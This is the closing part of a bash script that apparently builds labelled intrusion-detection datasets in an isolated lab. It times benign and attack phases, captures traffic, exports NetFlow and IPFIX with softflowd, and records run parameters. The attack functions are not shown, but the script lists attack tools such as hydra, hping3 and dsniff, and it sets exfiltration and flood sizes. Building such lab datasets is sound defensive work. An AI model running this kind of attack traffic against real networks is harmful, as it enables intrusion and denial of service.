    local prev=$t prev_kind=lead_in n=${#ATTACK_LIST[@]} k=0
    for a in "${ATTACK_LIST[@]}"; do
        k=$((k + 1))
        # the attacker host's own benign traffic stops 3 s before the phase ...
        touch "$PAUSE_FILE"
        sleep 3
        start=$(now_ms)
        phase_row "$prev_kind" benign benign "" "" "$prev" "$start" "benign $prev_kind"
        VICTIM=; NOTES=; CMD=
        "attack_$a"
        sleep 1   # late replies
        end=$(now_ms)
        phase_row "$a" "$a" malicious "$ATK" "$VICTIM" "$start" "$end" "$NOTES" "$CMD"
        prev=$end; prev_kind=gap
        # ... and resumes 3 s after it (v9 times may be up to 1 s early; labels use 1 s slack)
        sleep 3
        rm -f "$PAUSE_FILE"
        if [[ $k -lt $n ]]; then sleep "$(( GAP_S > 3 ? GAP_S - 3 : 0 ))"; fi
    done
    sleep "$TAIL_S"
    end=$(now_ms)
    phase_row "$([[ $n -eq 0 ]] && echo benign || echo tail)" benign benign "" "" "$prev" "$end" "benign $([[ $n -eq 0 ]] && echo only || echo tail)"
}

# ---- NetFlow exports ---------------------------------------------------------------------
export_softflowd() {  # VERSION OUTFILE PORT [EXTRA...]
    local ver=$1 out=$2 port=$3
    shift 3
    local ctl=$WORK/softflowd.ctl pidf=$WORK/softflowd.pid slog=$WORK/log/softflowd-v$ver.log
    rm -f "$ctl" "$pidf"
    "$PY" "$HERE/sink.py" udp "$port" 2>>"$WORK/log/sink.log" &
    local sink=$! tpid
    PIDS+=("$sink")
    : >"$WORK/log/tcpdump-lo.log"
    timeout 1800 tcpdump -Z root -n -i lo -s 0 -U -w "$out" udp and dst host 127.0.0.1 and dst port "$port" \
        2>"$WORK/log/tcpdump-lo.log" &
    tpid=$!
    PIDS+=("$tpid")
    for _ in $(seq 1 100); do grep -q 'listening on' "$WORK/log/tcpdump-lo.log" && break; sleep 0.05; done
    sleep 1
    # run from the out dir: softflowd exports the -r argument as the interface name
    (cd "$OUT" && exec timeout 1500 softflowd -d -a -r capture.pcap -n "127.0.0.1:$port" -v "$ver" \
        -c "$ctl" -p "$pidf" "$@") >"$slog" 2>&1 &
    local sf=$!
    PIDS+=("$sf")
    # softflowd 1.1.0 either exits at EOF by itself or waits on its control socket
    softflowd_wait_eof "$sf" "$ctl" "$slog" "$WORK/sf-stats.txt" 3000 \
        || { cat "$slog" >&2; die "softflowd -v $ver failed"; }
    sleep 1
    kill -INT "$tpid" 2>/dev/null || true
    wait "$tpid" 2>/dev/null || true
    kill -TERM "$sink" 2>/dev/null || true
    wait "$sink" 2>/dev/null || true
    log "softflowd v$ver: $(grep -E '^(Packets processed|Flows exported)' "$slog" | tr '\n' ';') -> ${out##*/}"
    grep -qE 'Flows exported: .*\(0 failures\)' "$slog" || { cat "$slog" >&2; die "softflowd export failures"; }
}

write_params() {  # T_START T_END FLOWSUMMARY_JSON
    local t0=$1 t1=$2 summary=$3
    local pkgs
    pkgs=$(dpkg-query -W -f '${Package}=${Version}\n' iproute2 tcpdump softflowd nginx-light redis-server \
        postgresql openssh-server nmap hping3 hydra dsniff sshpass dnsmasq-base netcat-openbsd \
        python3-scapy 2>/dev/null | paste -sd' ' || true)
    SEED=$SEED LEAD_S=$LEAD_S GAP_S=$GAP_S TAIL_S=$TAIL_S INTENSITY=$INTENSITY ATTACKS=$ATTACKS \
    SNAPLEN=$SNAPLEN EXFIL_MB=$EXFIL_MB FLOOD_COUNT=$FLOOD_COUNT DOWNLOAD_MAX_MB=$DOWNLOAD_MAX_MB CLIENTS=$CLIENTS BENIGN_RATE=$BENIGN_RATE T0=$t0 T1=$t1 \
    CMDLINE="$CMDLINE" PKGS="$pkgs" KERNEL="$(uname -srm)" OS="$(. /etc/os-release && echo "$PRETTY_NAME")" \
    TCPDUMP_STATS="$(grep -E 'packets (captured|received|dropped)' "$WORK/log/tcpdump.log" | paste -sd';')" \
    BENIGN_STATS="$(cat "$WORK"/log/benign-*.log 2>/dev/null | grep '^benign' | paste -sd'|' || true)" \
    HOSTS_JSON="$(for h in "${HOSTS[@]}"; do echo "$h ${IP[$h]}"; done | paste -sd,)" \
    "$PY" - "$PHASES_JSON" "$summary" "$OUT/params.json" <<'EOF'
import json, os, sys
e = os.environ
phases = [json.loads(l) for l in open(sys.argv[1])]
summary = json.load(open(sys.argv[2]))
hosts = dict(x.split() for x in e["HOSTS_JSON"].split(","))
p = {
    "generator": "tests/lab/run.sh",
    "command": e["CMDLINE"],
    "seed": int(e["SEED"]),
    "lead_in_s": int(e["LEAD_S"]), "gap_s": int(e["GAP_S"]), "tail_s": int(e["TAIL_S"]),
    "attacks": [a for a in e["ATTACKS"].split(",") if a],
    "intensity": e["INTENSITY"],
    "snaplen": int(e["SNAPLEN"]) or None,
    "snaplen_note": "capture.pcap frames cut to %s bytes (orig_len keeps the real length)" % e["SNAPLEN"]
                    if int(e["SNAPLEN"]) else "full frames",
    "exfil_mb_override": int(e["EXFIL_MB"]) if e["EXFIL_MB"] else None,
    "flood_count_override": int(e["FLOOD_COUNT"]) if e["FLOOD_COUNT"] else None,
    "download_max_mb": int(e["DOWNLOAD_MAX_MB"]),
    "benign_clients": int(e["CLIENTS"]), "benign_rate_per_client": float(e["BENIGN_RATE"]),
    "start_ms": int(e["T0"]), "end_ms": int(e["T1"]),
    "duration_s": round((int(e["T1"]) - int(e["T0"])) / 1000, 1),
    "hosts": hosts, "subnet": "10.77.0.0/24", "attacker_ip": hosts["atk"],
    "phases": phases,
    "capture": {"file": "capture.pcap", "interface": "br0 (bridge, own namespace)",
                "linktype": "EN10MB", "tcpdump": e["TCPDUMP_STATS"]},
    "exports": {
        "netflow-v9.pcap": "softflowd -d -a -r capture.pcap -n 127.0.0.1:29301 -v 9, captured on lo",
        "netflow-ipfix.pcap": "softflowd -d -a -r capture.pcap -n 127.0.0.1:29302 -v 10 -A milli, captured on lo",
    },
    "flow_labels": {"source": "netflow-v9.pcap decoded by tests/lab/flowlabels.py", **summary},
    "benign_clients_summary": e["BENIGN_STATS"].split("|") if e["BENIGN_STATS"] else [],
    "kernel": e["KERNEL"], "os": e["OS"],
    "packages": e["PKGS"].split(),
    "tcp_offloads": "TSO/GSO/GRO off on every veth end and br0",
}
json.dump(p, open(sys.argv[3], "w"), indent=1)
open(sys.argv[3], "a").write("\n")
EOF
}

main() {
    local t0 t1 total
    CMDLINE="tests/lab/run.sh --seed $SEED --lead-in $LEAD_IN --attacks $ATTACKS --intensity $INTENSITY --gap $GAP --tail $TAIL --snaplen $SNAPLEN${EXFIL_MB:+ --exfil-mb $EXFIL_MB}${FLOOD_COUNT:+ --flood-count $FLOOD_COUNT} --download-max-mb $DOWNLOAD_MAX_MB --clients $CLIENTS --benign-rate $BENIGN_RATE --out DIR"
    log "seed $SEED, lead-in ${LEAD_S}s, gap ${GAP_S}s, tail ${TAIL_S}s, intensity $INTENSITY, attacks: ${ATTACKS:-none}"
    log "out $OUT, work $WORK"
    rm -f "$OUT/capture.pcap" "$OUT/netflow-v9.pcap" "$OUT/netflow-ipfix.pcap" "$OUT/labels.csv" \
        "$OUT/flow-labels.csv" "$OUT/params.json"
    setup_net
    start_servers
    start_capture
    # benign clients run through the whole timeline; the estimate only bounds them
    total=$((2 * (LEAD_S + TAIL_S) + ${#ATTACK_LIST[@]} * (GAP_S + 1000) + 600))
    start_benign "$total"
    t0=$(now_ms)
    run_timeline
    t1=$(now_ms)
    local p
    for p in "${BENIGN_PIDS[@]}"; do kill -TERM "$p" 2>/dev/null || true; done
    for p in "${BENIGN_PIDS[@]}"; do wait "$p" 2>/dev/null || true; done
    stop_capture
    # traffic done: stop the servers and remove the namespaces before exporting
    for p in "${PIDS[@]}"; do kill "$p" 2>/dev/null || true; done
    ns_sweep
    log "capture: $(du -h "$OUT/capture.pcap" | cut -f1), exporting with softflowd"
    export_softflowd 9 "$OUT/netflow-v9.pcap" 29301
    export_softflowd 10 "$OUT/netflow-ipfix.pcap" 29302 -A milli
    "$PY" "$HERE/flowlabels.py" "$OUT" >"$WORK/flow-summary.json"
    write_params "$t0" "$t1" "$WORK/flow-summary.json"
    [[ -n ${SUDO_UID:-} ]] && chown -R "$SUDO_UID:${SUDO_GID:-$SUDO_UID}" "$OUT" || true
    log "done in $(( ($(now_ms) - t0) / 1000 ))s (traffic $(( (t1 - t0) / 1000 ))s): $(ls -s --block-size=K "$OUT" | tr '\n' ' ')"
    "$PY" -c 'import json,sys; d=json.load(open(sys.argv[1])); print("flows %d, malicious %d" % (d["flows"], d["malicious"])); [print("  %-28s %-15s benign %6d malicious %6d" % (k, v["kind"], v["benign"], v["malicious"])) for k, v in d["per_phase"].items()]' "$WORK/flow-summary.json" >&2
}

main
